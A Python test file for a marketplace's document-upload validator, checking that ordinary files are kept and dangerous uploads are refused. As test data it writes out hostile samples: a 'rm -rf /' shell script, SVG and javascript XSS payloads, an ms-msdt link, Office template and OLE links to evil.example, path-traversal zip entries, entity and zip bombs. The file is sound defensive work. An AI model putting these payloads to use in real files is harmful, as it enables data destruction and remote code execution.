"""Documents: kept as they are when their content is what their name says, refused when anything in them could run."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from marketplace.core.errors import FieldError
from marketplace.foundation.files import Prepared, prepare_document, store
from tests.foundation.file_samples import (
    EXE,
    GIF_PAGE,
    HTML,
    MB,
    OFFICE,
    PDF,
    SVG,
    package,
    picture,
    relationship,
    stored,
    workbook,
)

pytestmark = pytest.mark.usefixtures("shelf")


def take(data: bytes, name: str) -> Prepared:
    return prepare_document(io.BytesIO(data), name)


def refused(data: bytes, name: str) -> FieldError:
    with pytest.raises(FieldError) as caught:
        prepare_document(io.BytesIO(data), name, field="files.0")
    error = caught.value
    assert error.field == "files.0"
    assert all(name in text and "20 MB" in text for text in (error.message.zh, error.message.en))
    assert list(store().blobs()) == []
    return error


@pytest.mark.parametrize(
    ("data", "name", "media_type"),
    [
        (PDF, "检测报告.pdf", "application/pdf"),
        (package("docx"), "方案.docx", OFFICE + "wordprocessingml.document"),
        (workbook(), "参数.xlsx", OFFICE + "spreadsheetml.sheet"),
        (package("pptx"), "介绍.PPTX", OFFICE + "presentationml.presentation"),
        ("重量 20 kg\r\n".encode(), "说明.txt", "text/plain"),
        ("型号,重量\r\n甲,5".encode("gb18030"), "表.csv", "text/csv"),
        (b"\xef\xbb\xbfBM a text that begins like a bitmap", "a.txt", "text/plain"),
        (b"a < b, <5 mm>", "a.txt", "text/plain"),
    ],
)
def test_is_kept_as_it_is(data: bytes, name: str, media_type: str) -> None:
    file = take(data, name)
    assert (file.name, file.media_type, file.size, file.purpose) == (name, media_type, len(data), "document")
    assert (file.width, file.height, file.variants) == (None, None, ())
    assert stored(file.sha256) == data


@pytest.mark.parametrize(
    ("data", "name", "found"),
    [
        (b"", "空.pdf", "0 字节"),
        (PDF + bytes(int(20.1 * MB)), "大.pdf", "20.11 MB"),
        (HTML, "页.html", "扩展名 .html"),
        (HTML, "页.txt", "网页"),
        (HTML, "页.pdf", "网页"),
        (b"\xef\xbb\xbf \n" + HTML, "页.csv", "网页"),
        ("好".encode("gb18030") + HTML, "页.txt", "网页"),
        (SVG, "图.txt", "SVG"),
        (b"<svg onload=alert(1)>", "图.csv", "SVG"),
        (b"#!/bin/sh\nrm -rf /", "a.txt", "脚本"),
        (EXE, "a.exe", "扩展名 .exe"),
        (EXE, "a.pdf", "可执行"),
        (EXE, "a.docx", "可执行"),
        (b"\x7fELF" + bytes(100), "a.txt", "可执行"),
        (picture("PNG"), "a.pdf", "PNG"),
        (GIF_PAGE, "a.txt", "网页"),
        ("型号".encode("utf-16"), "a.txt", "UTF-16"),
        (bytes(range(256)), "a.txt", "无法识别"),
        (PDF, "a.txt", "PDF"),
        (PDF, "a.docx", "PDF"),
        (PDF[:-8], "断.pdf", "PDF 不完整"),
        (PDF + HTML, "尾.pdf", "PDF 不完整"),
        (b"junk" + PDF, "头.pdf", "纯文本"),
        (package("docx"), "a.xlsx", "内容却是 docx"),
        (package("docx"), "a.zip", "扩展名 .zip"),
        (package("docm"), "a.docm", "宏"),
        (package("docm"), "a.docx", "宏"),
        (package("xlsx", {"xl/vbaProject.bin": b"x"}), "a.xlsx", "宏"),
        (package("xlsx", {"xl/VBAPROJECT.BIN": b"x"}), "a.xlsx", "宏"),
        (package("xlsx", {"xl/macrosheets/sheet1.xml": b"x"}), "a.xlsx", "宏"),
        (package("docx", {"word/embeddings/setup.exe": b"x"}), "a.docx", "可执行"),
        (package("docx", types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
         "a.docx", "宏"),
        (package("docx", {"word/activeX/activeX1.xml": b"x"}), "a.docx", "宏"),
        (package("docx", {"../../evil.xml": b"x"}), "a.docx", "路径"),
        (package("docx", {"/etc/cron.d/x": b"x"}), "a.docx", "路径"),
        (package("docx", {"c:\\evil.xml": b"x"}), "a.docx", "路径"),
        (package("docx", {"WORD/document.xml": b"x"}), "a.docx", "损坏"),
        (package("docx")[:-30], "断.docx", "损坏"),
        (package("docx") + HTML, "尾.docx", "损坏"),
        (EXE + package("docx"), "头.docx", "可执行"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "旧.docx", "旧版"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "密.xlsx", "密码"),
    ],
)  # fmt: skip
def test_refuses(data: bytes, name: str, found: str) -> None:
    assert found in refused(data, name).message.zh


def test_refuses_a_plain_archive_named_as_a_document() -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("run.txt", "x")
    error = refused(target.getvalue(), "a.docx")
    assert "压缩包" in error.message.zh
    assert "archive" in error.message.en


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("attachedTemplate", "\\\\evil.example\\share\\t.dotx"),
        ("attachedTemplate", "file://evil.example/t.dotx"),
        ("image", "https://evil.example/pixel.png"),
        ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"),
        ("frame", "//evil.example/x"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    ],
)
def test_refuses_what_calls_outside(kind: str, target: str) -> None:
    parts: dict[str, str | bytes] = {"word/_rels/settings.xml.rels": relationship(kind, target, "External")}
    error = refused(package("docx", parts), "a.docx")
    assert "外部内容" in error.message.zh
    assert target[:40] in error.message.en


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "file:///C:\\Users\\wang\\Normal.dotx"),
        ("hyperlink", "https://www.ah.gov.cn/"),
        ("hyperlink", "mailto:a@example.com"),
        ("externalLinkPath", "成本.xlsx"),
    ],
)
def test_takes_links_and_places_on_the_authors_own_disk(kind: str, target: str) -> None:
    parts: dict[str, str | bytes] = {"word/_rels/document.xml.rels": relationship(kind, target, "External")}
    assert take(package("docx", parts), "a.docx").purpose == "document"


def test_refuses_entities_of_its_own_making() -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><Relationships>&b;</Relationships>'
    for data in (bomb.encode(), bomb.encode("utf-16")):
        assert "损坏" in refused(package("docx", {"word/_rels/a.rels": data}), "a.docx").message.zh


def test_refuses_a_zip_bomb() -> None:
    data = package("docx", {f"word/media/{i}.bin": bytes(30 * MB) for i in range(7)})
    assert len(data) < MB
    assert "解压后过大" in refused(data, "a.docx").message.zh


def test_refuses_too_many_entries() -> None:
    data = package("docx", {f"word/{i}.xml": b"" for i in range(5001)})
    assert "解压后过大" in refused(data, "a.docx").message.zh


def test_refuses_an_entry_that_hides_its_size() -> None:
    data = bytearray(package("docx", {"word/big.xml": bytes(5 * MB)}))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.rindex(mark) + offset
        assert data[at : at + 4] == struct.pack("<I", 5 * MB)
        data[at : at + 4] = struct.pack("<I", 100)
    assert "损坏" in refused(bytes(data), "a.docx").message.zh


def test_refuses_an_encrypted_entry() -> None:
    data = bytearray(package("docx"))
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    assert "密码" in refused(bytes(data), "a.docx").message.zh


def test_does_not_read_an_endless_stream_to_its_end() -> None:
    class Endless(io.RawIOBase):
        read_bytes = 0

        def read(self, size: int = -1) -> bytes:
            assert size > 0
            self.read_bytes += size
            return b"a" * size

    stream = Endless()
    with pytest.raises(FieldError, match="over 20 MB"):
        prepare_document(stream, "a.txt")
    assert stream.read_bytes == 20 * MB + 1
